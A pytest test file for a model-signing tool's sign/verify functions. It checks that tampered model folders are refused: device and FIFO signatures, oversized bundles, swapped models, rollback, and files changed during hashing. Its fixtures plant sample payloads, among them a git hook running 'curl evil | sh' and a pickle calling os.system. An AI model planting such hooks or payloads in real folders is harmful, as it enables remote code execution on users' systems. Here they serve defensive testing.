"""Attacks from inside a hostile model folder on ``sign``/``verify`` (issue 12).

Each test builds its folder, keys and bundles itself and is named after the attack. Tests of
attacks that used to hang or exhaust memory run in a child process under a timeout and an
address-space limit, so a regression fails the test instead of the test run.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import textwrap
import threading
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from mltrust.attest import (
    PinnedKeys,
    generate_keypair,
    load_private_key,
    load_public_key,
    sign,
    sign_statement,
    verify,
)
from mltrust.attest._bundle import parse_bundle, read_bundle
from mltrust.attest._manifest import FileChangedError
from mltrust.config import Limits
from mltrust.errors import ConfigError, InputError, LimitExceeded, VerificationError

_MiB = 1024 * 1024


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("keys")
    good = generate_keypair(d / "good", passphrase=None)
    return {"key": good.private_path, "pub": good.public_path}


def make_model(root: Path, name: str = "model") -> Path:
    model = root / name
    (model / "sub").mkdir(parents=True)
    (model / "weights.bin").write_bytes(bytes(range(256)) * 40)
    (model / "config.json").write_text('{"layers": 3}')
    (model / "sub" / "tokenizer.txt").write_text("a b c\n")
    return model


def run_isolated(code: str, *, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """Run ``code`` in a child Python with 1.5 GiB of address space and a timeout."""
    prelude = textwrap.dedent(
        """
        import resource
        limit = 1536 * 1024 * 1024
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
        """
    )
    return subprocess.run(
        [sys.executable, "-c", prelude + textwrap.dedent(code)],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
        check=False,
    )


# -- 1. denial of service from inside the folder ---------------------------------------------


def test_signature_symlinked_to_dev_zero_is_refused_at_once(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    model = make_model(tmp_path)
    (model / "model.sig").symlink_to("/dev/zero")
    proc = run_isolated(
        f"""
        from mltrust.attest import PinnedKeys, verify
        from mltrust.errors import InputError
        try:
            verify({str(model)!r}, trust=PinnedKeys({str(keys["pub"])!r}))
        except InputError as exc:
            print("refused:", exc)
        """
    )
    assert proc.returncode == 0, proc.stderr
    assert "refused:" in proc.stdout and "symbolic link" in proc.stdout


def test_fifo_signature_does_not_hang(tmp_path: Path, keys: dict[str, Path]) -> None:
    model = make_model(tmp_path)
    os.mkfifo(model / "model.sig")
    proc = run_isolated(
        f"""
        from mltrust.attest import PinnedKeys, verify
        from mltrust.errors import InputError
        try:
            verify({str(model)!r}, trust=PinnedKeys({str(keys["pub"])!r}))
        except InputError as exc:
            print("refused:", exc)
        """,
        timeout=30,
    )
    assert proc.returncode == 0, proc.stderr
    assert "refused:" in proc.stdout and "FIFO" in proc.stdout


def test_explicit_signature_path_to_a_device_is_refused(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    model = make_model(tmp_path)
    link = tmp_path / "outside.sig"
    link.symlink_to("/dev/zero")  # a link the user named is followed, a device never read
    with pytest.raises(InputError, match="character device"):
        verify(model, trust=PinnedKeys(keys["pub"]), signature=link)


def _envelope_with_signatures(count: int) -> bytes:
    head = (
        b'{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json",'
        b'"verificationMaterial":{"publicKey":{"hint":"x"}},'
        b'"dsseEnvelope":{"payloadType":"application/vnd.in-toto+json","payload":"e30=",'
        b'"signatures":['
    )
    return head + b",".join([b'{"sig":"AA=="}'] * count) + b"]}}"


def test_70_mib_envelope_with_millions_of_signatures_refused_in_bounded_memory(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    model = make_model(tmp_path)
    data = _envelope_with_signatures(5_000_000)
    assert len(data) > 70 * _MiB
    (model / "model.sig").write_bytes(data)
    del data
    tracemalloc.start()
    try:
        with pytest.raises(LimitExceeded, match="larger than"):
            verify(model, trust=PinnedKeys(keys["pub"]))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # reading stops one byte past the 64 MiB bound; parsing it took 1.2 GiB before
    assert peak < 100 * _MiB


def test_millions_of_signatures_under_the_size_bound_refused_unparsed(tmp_path: Path) -> None:
    data = _envelope_with_signatures(1_000_000)  # 15 MB, under max_bundle_bytes
    assert len(data) < Limits().max_bundle_bytes
    tracemalloc.start()
    try:
        with pytest.raises(LimitExceeded, match="JSON objects"):
            parse_bundle(data)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2 * len(data)  # json.loads would have built a million dicts


def test_signature_count_bounded_before_decoding(tmp_path: Path) -> None:
    with pytest.raises(LimitExceeded, match="17 signatures"):
        parse_bundle(_envelope_with_signatures(17))
    parse_bundle(_envelope_with_signatures(1))


def test_bundle_bounds_come_from_limits(tmp_path: Path, keys: dict[str, Path]) -> None:
    model = make_model(tmp_path)
    sig = sign(model, key=keys["key"])
    small = Limits().replace(max_bundle_bytes=100)
    with pytest.raises(LimitExceeded):
        verify(model, trust=PinnedKeys(keys["pub"]), limits=small)
    with pytest.raises(LimitExceeded):
        read_bundle(sig, limits=small)
    with pytest.raises(ConfigError):
        Limits().replace(max_bundle_bytes=0)


def test_deeply_nested_bundle_is_an_input_error(tmp_path: Path) -> None:
    with pytest.raises(LimitExceeded):
        parse_bundle(b"[" * 100_000 + b"]" * 100_000)
    nested = b'{"a":' * 5000 + b"1" + b"}" * 5000  # few tokens, deep nesting
    with pytest.raises(InputError):
        parse_bundle(nested, limits=Limits().replace(max_bundle_tokens=10**6))


def test_key_files_that_are_devices_or_fifos_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="character device"):
        load_public_key(Path("/dev/zero"))
    fifo = tmp_path / "key.pub"
    os.mkfifo(fifo)
    with pytest.raises(InputError, match="FIFO"):
        load_public_key(fifo)
    big = tmp_path / "big.pub"
    big.write_bytes(b"-" * (2 * _MiB))
    with pytest.raises(LimitExceeded):
        load_public_key(big)


def test_state_file_fifo_refused(tmp_path: Path, keys: dict[str, Path]) -> None:
    model = make_model(tmp_path)
    sign(model, key=keys["key"], version=1)
    state = tmp_path / "state.json"
    os.mkfifo(state)
    with pytest.raises(ConfigError, match="FIFO"):
        verify(model, trust=PinnedKeys(keys["pub"]), state=state, name="model")


def test_attestation_symlinked_to_dev_zero_fails(tmp_path: Path, keys: dict[str, Path]) -> None:
    model = make_model(tmp_path)
    sign(model, key=keys["key"])
    folder = model / ".mltrust" / "attestations"
    folder.mkdir(parents=True)
    (folder / "scan.bundle.json").symlink_to("/dev/zero")
    # A link at an attestation's exact name is not one of mltrust's files (those are regular
    # files only): the folder comparison refuses it before any attestation is read.
    with pytest.raises(VerificationError) as err:
        verify(model, trust=PinnedKeys(keys["pub"]), attestations=True)
    assert "symbolic link" in err.value.differences[0]


# -- 2. the verifier says which model it expects ---------------------------------------------


def test_another_model_signed_by_the_same_key_is_not_this_one(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    model = make_model(tmp_path)
    sign(model, key=keys["key"], model_name="model", version=3)
    state = tmp_path / "state.json"
    verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
    # the attacker puts another model, validly signed by the same key, in its place
    (model / "weights.bin").write_bytes(b"the other model's weights")
    sign(model, key=keys["key"], model_name="other-model", version=7)
    verify(model, trust=PinnedKeys(keys["pub"]))  # a valid signature, of something
    with pytest.raises(VerificationError, match="not the expected 'model'"):
        verify(model, trust=PinnedKeys(keys["pub"]), name="model")
    with pytest.raises(VerificationError, match="not the expected 'model'"):
        verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
    doc = json.loads(state.read_text())
    assert set(doc["models"]) == {"model"} and doc["models"]["model"]["version"] == 3


def test_expected_version_and_minimum_version(tmp_path: Path, keys: dict[str, Path]) -> None:
    model = make_model(tmp_path)
    sign(model, key=keys["key"], version=4)
    assert verify(model, trust=PinnedKeys(keys["pub"]), name="model", version=4).version == 4
    assert verify(model, trust=PinnedKeys(keys["pub"]), min_version=4).version == 4
    with pytest.raises(VerificationError, match="not the expected 5"):
        verify(model, trust=PinnedKeys(keys["pub"]), version=5)
    with pytest.raises(VerificationError, match="older than the minimum 5"):
        verify(model, trust=PinnedKeys(keys["pub"]), min_version=5)
    with pytest.raises(ConfigError):
        verify(model, trust=PinnedKeys(keys["pub"]), version=4, min_version=4)
    sign(model, key=keys["key"])  # no version at all
    with pytest.raises(VerificationError, match="minimum"):
        verify(model, trust=PinnedKeys(keys["pub"]), min_version=0)


def test_state_requires_the_expected_name(tmp_path: Path, keys: dict[str, Path]) -> None:
    model = make_model(tmp_path)
    sign(model, key=keys["key"], version=1)
    with pytest.raises(ConfigError, match="expected model name"):
        verify(model, trust=PinnedKeys(keys["pub"]), state=tmp_path / "s.json")


def test_cli_verify_name_and_version(
    tmp_path: Path, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    from mltrust.cli._main import EXIT_CLEAN, EXIT_FINDINGS, main

    model = make_model(tmp_path)
    sign(model, key=keys["key"], model_name="other", version=2)
    base = ["verify", str(model), "--key", str(keys["pub"])]
    assert main([*base, "--name", "other", "--min-version", "2"]) == EXIT_CLEAN
    assert main([*base, "--name", "model"]) == EXIT_FINDINGS
    assert main([*base, "--version", "1"]) == EXIT_FINDINGS
    assert "not the expected" in capsys.readouterr().out


# -- 4. files changed while hashing ----------------------------------------------------------


class _OnFirstBlock:
    """A progress sink that runs ``action`` once, after the first block has been hashed."""

    def __init__(self, action: Any) -> None:
        self.action = action
        self.done = False
        self.lock = threading.Lock()

    def start(self, total_bytes: int) -> None:
        pass

    def advance(self, nbytes: int) -> None:
        with self.lock:
            if self.done:
                return
            self.done = True
        self.action()


@pytest.fixture
def one_thread(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MLTRUST_HASH_THREADS", "1")


def _big_model(tmp_path: Path) -> Path:
    model = tmp_path / "big"
    model.mkdir()
    (model / "weights.bin").write_bytes(os.urandom(600 * 1024))  # three hashing blocks
    return model


def test_same_size_edit_during_verify_fails(
    tmp_path: Path, keys: dict[str, Path], one_thread: None
) -> None:
    model = _big_model(tmp_path)
    sign(model, key=keys["key"])
    target = model / "weights.bin"

    def edit() -> None:  # overwrite bytes already hashed: the digest still matches
        with open(target, "r+b") as fh:
            fh.write(b"\xff" * 1024)

    with pytest.raises(FileChangedError, match="changed while hashing"):
        verify(model, trust=PinnedKeys(keys["pub"]), progress=_OnFirstBlock(edit))


def test_same_size_edit_with_restored_mtime_during_verify_fails(
    tmp_path: Path, keys: dict[str, Path], one_thread: None
) -> None:
    model = _big_model(tmp_path)
    sign(model, key=keys["key"])
    target = model / "weights.bin"
    st = target.stat()

    def edit() -> None:
        with open(target, "r+b") as fh:
            fh.write(b"\xff" * 1024)
        os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))  # ctime still moves

    with pytest.raises(FileChangedError):
        verify(model, trust=PinnedKeys(keys["pub"]), progress=_OnFirstBlock(edit))


def test_atomic_rename_over_the_file_during_verify_fails(
    tmp_path: Path, keys: dict[str, Path], one_thread: None
) -> None:
    model = _big_model(tmp_path)
    sign(model, key=keys["key"])
    target = model / "weights.bin"

    def swap() -> None:  # the open descriptor keeps reading the signed (old) bytes
        tmp = tmp_path / "evil.bin"
        tmp.write_bytes(b"evil" * 1000)
        os.replace(tmp, target)

    with pytest.raises(FileChangedError, match="while hashing"):
        verify(model, trust=PinnedKeys(keys["pub"]), progress=_OnFirstBlock(swap))


def test_file_growing_during_sign_fails(
    tmp_path: Path, keys: dict[str, Path], one_thread: None
) -> None:
    model = _big_model(tmp_path)
    target = model / "weights.bin"

    def grow() -> None:
        with open(target, "ab") as fh:
            fh.write(b"more")

    with pytest.raises(FileChangedError):
        sign(model, key=keys["key"], progress=_OnFirstBlock(grow))
    assert not (model / "model.sig").exists()


def test_file_swapped_between_listing_and_hashing_fails(
    tmp_path: Path, keys: dict[str, Path], one_thread: None
) -> None:
    model = _big_model(tmp_path)
    (model / "a.bin").write_bytes(b"a" * 10)
    sign(model, key=keys["key"])
    victim = model / "a.bin"

    def swap() -> None:  # weights.bin (largest) is hashed first; a.bin is swapped meanwhile
        tmp = tmp_path / "x.bin"
        tmp.write_bytes(b"b" * 10)
        os.replace(tmp, victim)

    with pytest.raises(FileChangedError, match="after it was listed"):
        verify(model, trust=PinnedKeys(keys["pub"]), progress=_OnFirstBlock(swap))


# -- 5. nothing ignored that the signer did not declare ---------------------------------------


@pytest.mark.parametrize(
    "extra",
    [".mltrust/payload.pkl", ".mltrust/attestations/evil.py", ".mltrust/evidence.db.py"],
)
def test_file_hidden_under_dot_mltrust_is_an_extra_file(
    tmp_path: Path, keys: dict[str, Path], extra: str
) -> None:
    model = make_model(tmp_path)
    sign(model, key=keys["key"])
    p = model / extra
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(b"\x80\x04cos\nsystem\n.")
    with pytest.raises(VerificationError) as err:
        verify(model, trust=PinnedKeys(keys["pub"]))
    assert err.value.differences == [f"added: {extra}"]


def test_files_mltrust_writes_are_not_extra(tmp_path: Path, keys: dict[str, Path]) -> None:
    from mltrust.attest import attest_scan
    from mltrust.store import EvidenceStore

    model = make_model(tmp_path)
    sign(model, key=keys["key"])
    attest_scan(model, key=keys["key"], store=None)
    with EvidenceStore.open(EvidenceStore.default_path(model)):
        pass
    result = verify(model, trust=PinnedKeys(keys["pub"]), attestations=True)
    assert len(result.attestations) == 1


def test_git_files_are_ignored_only_when_the_signature_says_so(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    model = make_model(tmp_path)
    sig = sign(model, key=keys["key"])
    bundle = json.loads(sig.read_text())
    statement = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    assert ".git" in statement["predicate"]["serialization"]["ignore_paths"]
    # a signer that did not leave .git out: the verifier adds no ignore of its own
    statement["predicate"]["serialization"]["ignore_paths"] = ["model.sig"]
    sig.write_text(json.dumps(sign_statement(statement, load_private_key(keys["key"]))))
    verify(model, trust=PinnedKeys(keys["pub"]))
    (model / ".git" / "hooks").mkdir(parents=True)
    (model / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    (model / ".gitattributes").write_text("* filter=evil\n")
    with pytest.raises(VerificationError) as err:
        verify(model, trust=PinnedKeys(keys["pub"]))
    assert sorted(err.value.differences) == [
        "added: .git/hooks/post-checkout",
        "added: .gitattributes",
    ]


def test_state_file_inside_the_model_is_not_an_extra_file(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    model = make_model(tmp_path)
    sign(model, key=keys["key"], version=1)
    state = model / "verifier-state.json"
    verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
    verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
    assert state.exists()
    with pytest.raises(VerificationError) as err:
        verify(model, trust=PinnedKeys(keys["pub"]))  # for any other verifier it is an extra file
    assert "added: verifier-state.json" in err.value.differences


# -- 6. keys and state -----------------------------------------------------------------------


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o620])
def test_private_key_readable_or_writable_by_others_refused(
    tmp_path: Path, mode: int, capsys: pytest.CaptureFixture[str]
) -> None:
    from mltrust.cli._main import EXIT_CLEAN, EXIT_ERROR, main

    pair = generate_keypair(tmp_path / "k", passphrase=None)
    assert pair.private_path.stat().st_mode & 0o777 == 0o600
    model = make_model(tmp_path)
    sign(model, key=pair.private_path)
    pair.private_path.chmod(mode)
    with pytest.raises(ConfigError, match="accessible by others"):
        load_private_key(pair.private_path)
    with pytest.raises(ConfigError):
        sign(model, key=pair.private_path)
    assert main(["sign", str(model), "--key", str(pair.private_path)]) == EXIT_ERROR
    assert "chmod 600" in capsys.readouterr().err
    args = ["sign", str(model), "--key", str(pair.private_path), "--insecure-key-permissions"]
    assert main(args) == EXIT_CLEAN
    assert sign(model, key=pair.private_path, insecure_key_permissions=True).exists()


@pytest.mark.parametrize(
    "doc",
    [
        {"models": {"model": {"version": "9", "rootDigest": "0" * 64, "issuedAt": ""}}},
        {"models": {"model": {"version": True, "rootDigest": "0" * 64, "issuedAt": ""}}},
        {"models": {"model": {"version": -1, "rootDigest": "0" * 64, "issuedAt": ""}}},
        {"models": {"model": {"version": 9.0, "rootDigest": "0" * 64, "issuedAt": ""}}},
        {"models": {"model": {"rootDigest": "0" * 64, "issuedAt": ""}}},
        {"models": {"model": {"version": 9, "rootDigest": "zz", "issuedAt": ""}}},
        {"models": {"model": {"version": 9, "rootDigest": "0" * 64, "issuedAt": "", "x": 1}}},
        {"models": {"model": "9"}},
        {"models": []},
        {"format": 2, "models": {}},
        {"models": {}, "extra": 1},
        [],
    ],
)
def test_state_that_does_not_fit_its_schema_is_refused(
    tmp_path: Path, keys: dict[str, Path], doc: Any
) -> None:
    model = make_model(tmp_path)
    sign(model, key=keys["key"], version=1)
    state = tmp_path / "state.json"
    state.write_text(json.dumps(doc))
    with pytest.raises(ConfigError, match="schema"):
        verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
    assert json.loads(state.read_text()) == doc  # not silently rewritten


def test_string_version_in_state_does_not_reset_rollback_protection(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    model = make_model(tmp_path)
    sign(model, key=keys["key"], version=1)  # an old release
    state = tmp_path / "state.json"
    state.write_text(
        json.dumps({"models": {"model": {"version": "9", "rootDigest": "0" * 64, "issuedAt": ""}}})
    )
    with pytest.raises(ConfigError):
        verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)


def test_state_written_by_verify_reads_back(tmp_path: Path, keys: dict[str, Path]) -> None:
    model = make_model(tmp_path)
    sign(model, key=keys["key"], version=1)
    state = tmp_path / "state.json"
    verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
    doc = json.loads(state.read_text())
    assert doc["format"] == 1 and doc["models"]["model"]["version"] == 1
    verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)


def test_sha256_file_refuses_devices_and_fifos(tmp_path: Path) -> None:
    from mltrust.digest import sha256_file

    with pytest.raises(InputError, match="character device"):
        sha256_file("/dev/zero")
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(InputError, match="FIFO"):
        sha256_file(tmp_path / "pipe")
    (tmp_path / "f").write_bytes(b"abc")
    (tmp_path / "link").symlink_to(tmp_path / "f")
    assert sha256_file(tmp_path / "link") == sha256_file(tmp_path / "f")
    with pytest.raises(InputError, match="symbolic link"):
        sha256_file(tmp_path / "link", follow_links=False)


def test_renames_of_identical_files_are_paired_in_linear_time(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    """Rename matching goes through a digest index: many added and removed files cannot make
    the comparison quadratic, and identical files are paired one to one."""
    model = tmp_path / "many"
    model.mkdir()
    for i in range(3000):
        (model / f"f{i:04d}.bin").write_bytes(b"same" if i < 2 else str(i).encode())
    sign(model, key=keys["key"])
    for i in range(3000):
        (model / f"f{i:04d}.bin").rename(model / f"g{i:04d}.bin")
    (model / "extra.bin").write_bytes(b"new")
    with pytest.raises(VerificationError) as err:
        verify(model, trust=PinnedKeys(keys["pub"]))
    diffs = err.value.differences
    assert len(diffs) == 3001
    assert diffs[:2] == ["renamed: f0000.bin -> g0000.bin", "renamed: f0001.bin -> g0001.bin"]
    assert diffs[-1] == "added: extra.bin"


def test_digest_with_a_trailing_newline_in_a_signed_manifest_is_malformed(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    model = make_model(tmp_path)
    sig = sign(model, key=keys["key"])
    bundle = json.loads(sig.read_text())
    statement = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    res = statement["predicate"]["resources"][0]
    res["digest"] = res["digest"][:63] + "\n"
    sig.write_text(json.dumps(sign_statement(statement, load_private_key(keys["key"]))))
    with pytest.raises(VerificationError, match="malformed digest"):
        verify(model, trust=PinnedKeys(keys["pub"]))


def test_include_git_covers_git_files(tmp_path: Path, keys: dict[str, Path]) -> None:
    from mltrust.attest import attest_scan

    model = make_model(tmp_path)
    (model / ".git").mkdir()
    (model / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    sign(model, key=keys["key"], include_git=True)
    attest_scan(model, key=keys["key"], include_git=True)  # mltrust files stay out
    verify(model, trust=PinnedKeys(keys["pub"]), attestations=True)
    (model / ".git" / "hooks").mkdir()
    (model / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
    (model / ".git" / "HEAD").write_text("ref: refs/heads/evil\n")
    with pytest.raises(VerificationError) as err:
        verify(model, trust=PinnedKeys(keys["pub"]))
    assert err.value.differences == ["added: .git/hooks/post-checkout", "modified: .git/HEAD"]
